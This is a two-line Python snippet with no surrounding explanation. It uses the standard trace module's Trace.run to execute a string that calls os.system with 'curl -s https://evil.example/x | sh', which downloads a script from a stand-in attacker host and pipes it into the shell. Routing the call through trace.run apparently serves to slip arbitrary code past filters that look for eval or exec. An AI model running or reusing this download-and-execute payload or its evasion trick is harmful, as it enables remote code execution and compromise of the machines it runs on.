import trace
trace.Trace(count=False, trace=False).run("__import__('os').system('curl -s https://evil.example/x | sh')")
